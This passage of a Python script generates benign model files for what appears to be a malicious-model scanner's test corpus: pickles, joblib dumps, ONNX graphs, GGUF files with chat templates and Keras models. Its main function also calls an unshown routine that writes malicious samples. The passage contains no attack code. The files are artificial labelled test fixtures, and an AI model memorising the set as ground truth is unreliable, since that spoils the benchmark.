    b("sk_tfidf.joblib", bio.getvalue(), "TfidfVectorizer compress=3")
    try:
        import pandas as pd
        Xdf = pd.DataFrame({"n": [1.0, 2.0, 3.0, 4.0], "c": ["a", "b", "a", "b"]})
        ct = ColumnTransformer([("num", StandardScaler(), ["n"]), ("cat", OneHotEncoder(), ["c"])]).fit(Xdf)
        dumps_file("sk_columntransformer.pkl", ct, "ColumnTransformer with OneHotEncoder (pickle)", 5)
    except ImportError:
        pass
    dumps_file("sk_labelenc.pkl", LabelEncoder().fit(["a", "b"]), "LabelEncoder")
    bio = io.BytesIO()
    joblib.dump({"w": arr, "meta": {"epochs": 3}}, bio, compress=("zlib", 3))
    b("joblib_dict_zlib.joblib", bio.getvalue(), "joblib zlib dict")
    # plain Python objects
    import datetime, decimal, fractions, uuid, pathlib  # noqa: E401
    dumps_file("plain_types_p4.pkl", {"d": datetime.datetime(2024, 1, 1), "dec": decimal.Decimal("1.5"), "f": fractions.Fraction(1, 3),
                                     "u": uuid.UUID(int=5), "p": pathlib.PurePosixPath("/a"), "s": {1, 2}, "fs": frozenset([3]),
                                     "c": complex(1, 2), "b": bytearray(b"x"), "r": range(3), "sl": slice(1, 2),
                                     "dd": collections.defaultdict(list), "cnt": collections.Counter("aab"), "dq": collections.deque([1])}, "builtin types", 4)
    dumps_file("plain_types_p0.pkl", {"d": datetime.date(2024, 1, 1), "s": {1}, "t": (1, "x")}, "protocol 0 builtin types", 0)
    # ONNX
    import onnx
    from onnx import helper, TensorProto, numpy_helper
    X_ = helper.make_tensor_value_info("X", TensorProto.FLOAT, [1, 3])
    Y_ = helper.make_tensor_value_info("Y", TensorProto.FLOAT, [1, 3])
    W = numpy_helper.from_array(np.ones((3, 3), dtype=np.float32), "W")
    g = helper.make_graph([helper.make_node("MatMul", ["X", "W"], ["H"]), helper.make_node("Relu", ["H"], ["Y"])], "g", [X_], [Y_], [W])
    mdl = helper.make_model(g, opset_imports=[helper.make_opsetid("", 17)])
    b("onnx_mlp.onnx", mdl.SerializeToString(), "onnx helper MatMul+Relu")
    g2 = helper.make_graph([helper.make_node("Gelu", ["X"], ["Y"], domain="com.microsoft")], "g", [X_], [Y_])
    mdl2 = helper.make_model(g2, opset_imports=[helper.make_opsetid("", 17), helper.make_opsetid("com.microsoft", 1)])
    b("onnx_ms_contrib.onnx", mdl2.SerializeToString(), "onnx com.microsoft contrib op")
    g3 = helper.make_graph([helper.make_node("LinearClassifier", ["X"], ["L", "P"], domain="ai.onnx.ml", coefficients=[1.0] * 6, classlabels_ints=[0, 1])],
                          "g", [X_], [helper.make_tensor_value_info("L", TensorProto.INT64, [1]), Y_])
    mdl3 = helper.make_model(g3, opset_imports=[helper.make_opsetid("", 17), helper.make_opsetid("ai.onnx.ml", 3)])
    b("onnx_ml.onnx", mdl3.SerializeToString(), "onnx ai.onnx.ml op")
    ext_dir = os.path.join(out, "benign", "onnx_external")
    os.makedirs(ext_dir, exist_ok=True)
    mdl4 = helper.make_model(helper.make_graph([helper.make_node("MatMul", ["X", "W"], ["Y"])], "g", [X_], [Y_], [numpy_helper.from_array(np.ones((3, 3), dtype=np.float32), "W")]),
                             opset_imports=[helper.make_opsetid("", 17)])
    onnx.save_model(mdl4, os.path.join(ext_dir, "model.onnx"), save_as_external_data=True, all_tensors_to_one_file=True, location="model.onnx.data", size_threshold=0)
    TECH["benign/onnx_external/model.onnx"] = "onnx external data (one file)"
    TECH["benign/onnx_external/model.onnx.data"] = "onnx external data blob"
    # GGUF
    import gguf
    for name, tmpl in [("plain", None), ("llama3", "{% set loop_messages = messages %}{% for message in loop_messages %}{% set content = '<|start_header_id|>' + message['role'] + '<|end_header_id|>\n\n'+ message['content'] | trim + '<|eot_id|>' %}{% if loop.index0 == 0 %}{% set content = bos_token + content %}{% endif %}{{ content }}{% endfor %}{% if add_generation_prompt %}{{ '<|start_header_id|>assistant<|end_header_id|>\n\n' }}{% endif %}"),
                       ("chatml", "{% for message in messages %}{{'<|im_start|>' + message['role'] + '\n' + message['content'] + '<|im_end|>' + '\n'}}{% endfor %}{% if add_generation_prompt %}{{ '<|im_start|>assistant\n' }}{% endif %}")]:
        path = os.path.join(out, "benign", f"gguf_{name}.gguf")
        w = gguf.GGUFWriter(path, "llama")
        w.add_name("tiny")
        w.add_context_length(64)
        w.add_embedding_length(8)
        w.add_block_count(1)
        w.add_tokenizer_model("llama")
        w.add_token_list(["<s>", "</s>", "a"])
        w.add_token_scores([0.0, 0.0, -1.0])
        if tmpl:
            w.add_chat_template(tmpl)
        w.add_tensor("tok_embeddings.weight", rng.standard_normal((3, 8)).astype(np.float32))
        w.add_tensor("norm.weight", np.ones(8, dtype=np.float16))
        w.write_header_to_file()
        w.write_kv_data_to_file()
        w.write_tensors_to_file()
        w.close()
        TECH[f"benign/gguf_{name}.gguf"] = f"gguf.GGUFWriter {name}"
    # Keras (numpy backend), if available
    try:
        os.environ.setdefault("KERAS_BACKEND", "numpy")
        import keras
        km = keras.Sequential([keras.Input((4,)), keras.layers.Dense(3, activation="relu"), keras.layers.Dropout(0.1), keras.layers.Dense(1, activation="sigmoid")])
        km.save(os.path.join(out, "benign", "keras_seq.keras"))
        TECH["benign/keras_seq.keras"] = "keras 3 Sequential .keras"
        inp = keras.Input((4,))
        x = keras.layers.Dense(3)(inp)
        x = keras.layers.BatchNormalization()(x)
        x = keras.layers.Activation("gelu")(x)
        km2 = keras.Model(inp, keras.layers.Dense(2, activation="softmax")(x))
        km2.save(os.path.join(out, "benign", "keras_func.keras"))
        TECH["benign/keras_func.keras"] = "keras 3 functional .keras"
        km2.save(os.path.join(out, "benign", "keras_func.h5"))
        TECH["benign/keras_func.h5"] = "keras 3 legacy h5"
    except Exception as e:  # noqa: BLE001
        print("keras skipped:", e, file=sys.stderr)
    # safetensors-like written by hand is not a real producer; skip. A tar of benign files:
    bio = io.BytesIO()
    with tarfile.open(fileobj=bio, mode="w:gz") as t:
        for rel in ("benign/sk_logreg.joblib", "benign/onnx_mlp.onnx"):
            t.add(os.path.join(out, rel), arcname=os.path.basename(rel))
    b("bundle.tar.gz", bio.getvalue(), "tar.gz of benign models")


def main():
    out = sys.argv[1]
    malicious(out)
    benign(out)
    with open(os.path.join(out, "techniques.json"), "w") as f:
        json.dump(TECH, f, indent=1, sort_keys=True)
    print(f"{sum(k.startswith('malicious/') for k in TECH)} malicious, {sum(k.startswith('benign/') for k in TECH)} benign files in {out}")


if __name__ == "__main__":
    main()
